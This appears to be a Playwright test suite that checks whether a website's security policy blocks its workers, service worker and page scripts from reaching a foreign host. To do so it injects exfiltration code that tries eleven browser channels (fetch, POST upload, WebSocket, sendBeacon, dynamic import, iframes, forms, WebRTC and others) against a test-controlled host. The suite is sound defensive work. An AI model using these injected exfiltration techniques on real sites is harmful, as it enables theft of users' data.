import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { type ForeignHost, startForeignHost } from '../support/foreignHost.ts';
import { copyOfTheSite, startServer } from '../support/ownServer.ts';
import { expect, test as siteTest } from '../support/siteTest.ts';
import { startTool } from '../support/startTool.ts';
import { answerOfWorker, attack } from '../support/workerAttack.ts';

const test = siteTest.extend<{ foreign: ForeignHost; site: ReturnType<typeof copyOfTheSite> }>({
  foreign: async ({ browserName: _ }, use) => {
    const foreign = await startForeignHost();
    await use(foreign);
    await foreign.end();
  },
  site: async ({ browserName: _ }, use) => {
    const site = copyOfTheSite();
    await use(site);
    site.remove();
  },
});
test.use({ consent: 'unanswered', mayComplain: true });

const workers = readdirSync('dist/_astro').filter((name) => /Worker-[\w-]+\.js$/.test(name));

const askWorker = (page: Page, path: string) => page.evaluate(answerOfWorker, path);

const askServiceWorker = (page: Page) =>
  page.evaluate(
    () =>
      new Promise<Record<string, string>>((resolve) => {
        navigator.serviceWorker.addEventListener('message', ({ data }) => data.ended && resolve(data.ended));
        void navigator.serviceWorker.ready.then(({ active }) => active?.postMessage('attack'));
      }),
  );

test('the site has the worker that these tests attack', () => {
  expect(workers.map((name) => name.replace(/-.*/, ''))).toEqual(['listWorker']);
});

for (const name of workers)
  test(`${name.replace(/-.*/, '')} cannot send anything to a foreign host [19.8] [19.22]`, async ({
    page,
    foreign,
    site,
  }) => {
    const path = join(site.folder, '_astro', name);
    writeFileSync(path, attack(foreign.host) + readFileSync(path, 'utf8'));
    const server = await startServer(site.folder);
    await page.goto(`${server.address}/iban-liste`);
    const ended = await askWorker(page, `/_astro/${name}`);
    expect(Object.keys(ended)).toHaveLength(6);
    expect(new Set(Object.values(ended)), JSON.stringify(ended)).toEqual(new Set(['refused']));
    expect(foreign.requests).toEqual([]);
    await server.end();
  });

test('the service worker cannot send anything to a foreign host [19.8] [19.22]', async ({
  page,
  foreign,
  site,
}) => {
  const path = join(site.folder, 'sw.js');
  writeFileSync(path, attack(foreign.host) + readFileSync(path, 'utf8'));
  const server = await startServer(site.folder);
  await page.goto(`${server.address}/datenschutz`);
  await page.getByRole('button', { name: 'Akzeptieren' }).click();
  const ended = await askServiceWorker(page);
  expect(Object.keys(ended)).toHaveLength(6);
  expect(new Set(Object.values(ended)), JSON.stringify(ended)).toEqual(new Set(['refused']));
  expect(foreign.requests).toEqual([]);
  await server.end();
});

test('without the policy of the answer the attack succeeds', async ({ page, foreign }) => {
  const server = createServer((request, response) => {
    const isScript = request.url === '/worker.js';
    response.writeHead(200, { 'Content-Type': isScript ? 'text/javascript' : 'text/html' });
    response.end(isScript ? attack(foreign.host) : '<title>x</title>');
  });
  await new Promise<void>((started) => server.listen(0, '127.0.0.1', started));
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  expect(await askWorker(page, '/worker.js')).toMatchObject({
    fetch: 'got through',
    upload: 'got through',
    import: 'got through',
    nested: 'got through',
  });
  expect(foreign.requests).toEqual(
    expect.arrayContaining(['/fetch', '/upload', '/socket', '/import.js', '/nested']),
  );
  server.closeAllConnections();
  await new Promise((ended) => server.close(ended));
});

test('a script of a page cannot send anything to a foreign host [19.8] [19.22]', async ({
  page,
  foreign,
  baseURL,
}) => {
  const [script = ''] = readdirSync('dist/_astro').filter((name) => /^Calculator\..*\.js$/.test(name));
  const ways = `
    const host = '${foreign.host}';
    const image = (rel, as) => { const link = document.createElement('link'); Object.assign(link, { rel, as, href: 'http://' + host + '/' + rel }); document.head.append(link); };
    const element = (name, source) => new Promise((resolve, reject) => { const made = document.createElement(name); made.onload = resolve; made.onerror = reject; made[source] = 'http://' + host + '/' + name; document.body.append(made); });
    const ways = {
      fetch: () => fetch('http://' + host + '/fetch'),
      upload: () => fetch('http://' + host + '/upload', { method: 'POST', body: '532013000', mode: 'no-cors' }),
      request: () => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.onload = resolve; request.onerror = reject; request.open('GET', 'http://' + host + '/request'); request.send(); }),
      socket: () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://' + host + '/socket'); socket.onopen = resolve; socket.onerror = reject; }),
      events: () => new Promise((resolve, reject) => { const source = new EventSource('http://' + host + '/events'); source.onopen = resolve; source.onerror = () => { source.close(); reject(); }; }),
      beacon: () => new Promise((resolve, reject) => { document.addEventListener('securitypolicyviolation', reject); navigator.sendBeacon('http://' + host + '/beacon', '532013000'); }),
      import: () => import('http://' + host + '/import.js'),
      image: () => element('img', 'src'),
      script: () => element('script', 'src'),
      frame: () => new Promise((resolve, reject) => { document.addEventListener('securitypolicyviolation', reject); void element('iframe', 'src').catch(() => {}); }),
      form: () => new Promise((resolve, reject) => { document.addEventListener('securitypolicyviolation', reject); const form = document.createElement('form'); form.action = 'http://' + host + '/form'; document.body.append(form); form.submit(); }),
    };
    window.attack = async () => {
      image('prefetch'); image('preload', 'fetch');
      const ended = {};
      for (const [way, go] of Object.entries(ways)) ended[way] = await Promise.resolve().then(go).then(() => 'got through', () => 'refused');
      return ended;
    };`;
  const change = (url: string, changed: (body: string) => string) =>
    page.route(url, async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, body: changed(await answer.text()) });
    });
  await change(`**/_astro/${script}`, (body) => ways + body);
  await page.goto(`${baseURL}/`);
  await startTool(page);
  await page.waitForFunction(() => 'attack' in window);
  const ended = await page.evaluate(() => (window as unknown as { attack(): Promise<object> }).attack());
  expect(Object.keys(ended)).toHaveLength(11);
  expect(new Set(Object.values(ended)), JSON.stringify(ended)).toEqual(new Set(['refused']));
  expect(foreign.requests).toEqual([]);
});

test('a script of a page cannot reach a foreign host by WebRTC in this browser [19.9]', async ({
  page,
  foreign,
}) => {
  const connect = (page: Page, port: number) =>
    page.evaluate(async (stunPort) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] });
      connection.createDataChannel('way out');
      await connection.setLocalDescription(await connection.createOffer());
      // Stored, so that it is not garbage-collected.
      Object.assign(window, { connection });
    }, port);
  await page.goto('/');
  await connect(page, foreign.stunPort);

  // Without the header the packets arrive. Packets of the first page would have arrived earlier.
  const control = await startForeignHost();
  const other = await page.context().newPage();
  await other.route('**/kontakt', async (route) => {
    const answer = await route.fetch();
    const headers = { ...answer.headers() };
    delete headers['connection-allowlist'];
    await route.fulfill({ response: answer, headers });
  });
  await other.goto('/kontakt');
  await connect(other, control.stunPort);
  await expect.poll(() => control.packets).toBeGreaterThan(0);
  expect(foreign.packets).toBe(0);
  await control.end();
});

test('no script of this site uses a connection that the policy cannot block in every browser [19.9]', () => {
  for (const name of readdirSync('dist/_astro').filter((file) => file.endsWith('.js'))) {
    const script = readFileSync(`dist/_astro/${name}`, 'utf8');
    expect(/RTCPeerConnection|WebTransport/.test(script), name).toBe(false);
  }
});

test('a worker of the site cannot make a text a script [13.13]', async ({ request }) => {
  const workers = readdirSync('dist/_astro').filter((name) => /Worker-[\w-]+\.js$/.test(name));
  expect(workers).not.toHaveLength(0);
  for (const path of [...workers.map((name) => `/_astro/${name}`), '/sw.js']) {
    const policy = (await request.get(path)).headers()['content-security-policy'];
    expect(policy).toContain("require-trusted-types-for 'script'; trusted-types 'none'");
  }
});
